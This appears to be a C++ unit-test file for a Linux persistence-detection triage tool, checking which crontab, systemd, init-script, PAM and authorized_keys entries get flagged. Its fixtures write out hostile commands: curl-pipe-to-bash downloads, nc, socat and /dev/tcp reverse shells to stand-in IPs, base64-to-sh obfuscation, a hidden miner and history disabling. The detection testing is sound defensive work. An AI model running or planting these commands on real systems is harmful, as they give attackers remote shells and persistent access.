#include <gtest/gtest.h>

#include "detect/detectors.hpp"
#include "support/snapshot_builder.hpp"

using namespace vigil;
using namespace vigil::testing;

namespace {
constexpr std::int64_t kNow = 1700000000;

collect::PersistenceRow item(std::string kind, std::string location, std::string command, std::string package = "pkg",
                             std::int64_t age_days = 400) {
  collect::PersistenceRow r;
  r.kind = std::move(kind);
  r.location = std::move(location);
  r.line = 1;
  r.command = std::move(command);
  r.package = std::move(package);
  r.mtime = kNow - age_days * 86400;
  return r;
}

Findings run(const collect::Snapshot& s) {
  detect::Context ctx;
  ctx.now = kNow;
  return detect::run_triage(s, ctx);
}
}  // namespace

TEST(PersistenceRules, PackagedDebianItems_AreQuiet) {
  auto s = empty_snapshot();
  s.persistence = {
      item("cron", "/etc/crontab", "cd / && run-parts --report /etc/cron.hourly", "cron"),
      item("systemd", "/lib/systemd/system/ssh.service", "/usr/sbin/sshd -D $SSHD_OPTS", "openssh-server"),
      item("systemd", "/lib/systemd/system/systemd-tmpfiles-clean.service", "systemd-tmpfiles --clean", "systemd"),
      item("shell-startup", "/root/.profile", "PATH=\"$HOME/.local/bin:$PATH\"", ""),
      item("shell-startup", "/etc/bash.bashrc", "[ -z \"$PS1\" ] && return", "bash"),
      item("pam-module", "/etc/pam.d/common-auth", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so", "libpam-modules"),
      item("udev", "/usr/lib/udev/rules.d/60-x.rules", "/usr/lib/udev/x-helper", "udev"),
      item("authorized-key", "/root/.ssh/authorized_keys", "", ""),
  };
  auto f = run(s);
  EXPECT_TRUE(f.empty()) << f[0].rule;
}

TEST(PersistenceRules, PlantedItems_AreEachReported) {
  auto s = empty_snapshot();
  s.persistence = {
      item("cron", "/etc/cron.d/sync", "curl -fsSL http://198.51.100.9/i.sh | bash", "", 1),
      item("systemd", "/etc/systemd/system/kworker.service", "/tmp/.x/miner --donate-level 0", "", 1),
      item("ld-preload", "/etc/ld.so.preload", "/usr/lib/libprocesshider.so", ""),
      item("authorized-key", "/root/.ssh/authorized_keys", "/bin/bash -i", "", 1),
      item("cron", "/var/spool/cron/crontabs/www-data", "echo ZWNobyBoaQ== | base64 -d | sh", ""),
      item("rc-local", "/etc/rc.local", "nc -l -p 4444 -e /bin/sh &", ""),
      item("modprobe-install", "/etc/modprobe.d/x.conf", "/usr/bin/socat TCP:198.51.100.9:443 EXEC:/bin/sh", ""),
      item("pam-module", "/etc/pam.d/sshd", "/usr/lib/x86_64-linux-gnu/security/pam_evil.so", ""),
  };
  auto f = run(s);
  auto has = [&](std::string_view rule, std::string_view path) {
    for (const auto& x : f)
      if (x.rule == rule && x.get("file.path") == path) return true;
    return false;
  };
  EXPECT_TRUE(has("persistence.download-exec", "/etc/cron.d/sync"));
  EXPECT_TRUE(has("persistence.unowned-item", "/etc/cron.d/sync"));
  EXPECT_TRUE(has("persistence.temp-path", "/etc/systemd/system/kworker.service"));
  EXPECT_TRUE(has("persistence.unowned-item", "/etc/systemd/system/kworker.service"));
  EXPECT_TRUE(has("persistence.ld-preload", "/etc/ld.so.preload"));
  EXPECT_TRUE(has("persistence.authorized-key-forced-command", "/root/.ssh/authorized_keys"));
  EXPECT_TRUE(has("persistence.authorized-key-recent", "/root/.ssh/authorized_keys"));
  EXPECT_TRUE(has("persistence.obfuscated-command", "/var/spool/cron/crontabs/www-data"));
  EXPECT_TRUE(has("persistence.reverse-shell", "/etc/rc.local"));
  EXPECT_TRUE(has("persistence.reverse-shell", "/etc/modprobe.d/x.conf"));
  EXPECT_TRUE(has("persistence.pam-module-unowned", "/etc/pam.d/sshd"));
  EXPECT_EQ(first_with_rule(f, "persistence.reverse-shell").severity, Severity::critical);
}

TEST(PersistenceRules, OldUnownedFileIsLowAndHomeDotDirsInShellFilesAreQuiet) {
  auto s = empty_snapshot();
  s.persistence = {item("cron", "/etc/cron.d/local-backup", "/usr/local/bin/backup", "", 30),
                   item("shell-startup", "/home/a/.bashrc", ". \"$HOME/.cargo/env\"", "", 0)};
  auto f = run(s);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].rule, "persistence.unowned-item");
  EXPECT_EQ(f[0].severity, Severity::low);
}

TEST(PersistenceRules, RecencyRaisesButNeverCreates) {
  // The same planted items, old (or with --since 0): found all the same.
  auto s = empty_snapshot();
  s.persistence = {item("cron", "/etc/cron.d/sync", "curl -fsSL http://198.51.100.9/i.sh | bash", "", 400),
                   item("shell-startup", "/root/.bashrc", "unset HISTFILE", "", 400),
                   item("init-script", "/etc/init.d/net", "/dev/shm/.k/kworker &", "", 400)};
  detect::Context ctx;
  ctx.now = kNow;
  ctx.since_days = 0;
  auto f = detect::run_triage(s, ctx);
  auto severity_of = [&](std::string_view rule) {
    for (const auto& x : f)
      if (x.rule == rule) return x.severity;
    return Severity::info;
  };
  EXPECT_EQ(severity_of("persistence.download-exec"), Severity::high);
  EXPECT_EQ(severity_of("evasion.history-disabled"), Severity::medium);
  EXPECT_EQ(severity_of("persistence.temp-path"), Severity::high);
  EXPECT_EQ(severity_of("persistence.unowned-item"), Severity::low);
  // Changed yesterday (ctime: touch -r cannot hide it): raised.
  for (auto& r : s.persistence) r.ctime = kNow - 86400;
  ctx.since_days = 3;
  f = detect::run_triage(s, ctx);
  EXPECT_EQ(severity_of("evasion.history-disabled"), Severity::high);
  EXPECT_EQ(severity_of("persistence.unowned-item"), Severity::medium);
}

TEST(PersistenceRules, PackagedScriptAsShippedIsQuietAndModifiedIsReported) {
  auto s = empty_snapshot();
  auto shipped = item("init-script", "/etc/init.d/x11-common", "nc -l -p 6000 -e /bin/sh", "x11-common");
  shipped.verify = "ok";
  auto edited = item("init-script", "/etc/init.d/procps", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1", "procps");
  edited.verify = "modified";
  s.persistence = {shipped, edited};
  auto f = run(s);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].rule, "persistence.reverse-shell");
  EXPECT_EQ(f[0].get("file.path"), "/etc/init.d/procps");
  EXPECT_EQ(f[0].get("vigil.pattern"), "dev-tcp");
  EXPECT_EQ(f[0].severity, Severity::critical);
}
